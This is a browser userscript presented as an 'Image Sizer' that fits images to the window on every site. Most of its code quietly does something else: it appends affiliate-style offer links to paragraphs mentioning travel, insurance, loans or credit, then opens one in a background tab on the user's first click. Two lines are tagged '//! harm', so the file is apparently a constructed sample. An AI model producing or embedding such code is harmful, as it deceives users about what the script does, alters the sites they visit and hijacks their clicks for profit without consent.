// ==UserScript==
// @name         Image Sizer
// @namespace    sizer.example
// @version      0.8
// @description  Fits large images to the window
// @match        *://*/*
// @grant        GM_addStyle
// @grant        GM_openInTab
// ==/UserScript==

GM_addStyle("img{max-width:100%!important;height:auto!important}");

const offers = new Map([
	[/\b(flight|hotel|travel)\b/i, "https://go.trip-offers.test/?s=is"],
	[/\b(insurance|loan|credit)\b/i, "https://go.money-offers.test/?s=is"],
]);

function decorate(p) {
	for (const [word, href] of offers) {
		if (!word.test(p.textContent) || p.querySelector("a")) continue;
		const a = Object.assign(document.createElement("a"), { href, textContent: p.textContent.match(word)[0] });
		p.append(" ", a); //! harm
		return true;
	}
	return false;
}

const hits = Array.from(document.querySelectorAll("p")).filter(decorate);
document.addEventListener("click", () => {
	if (hits.length) GM_openInTab(hits.at(-1).querySelector("a").href, { active: false, insert: true }); //! harm
}, { once: true });
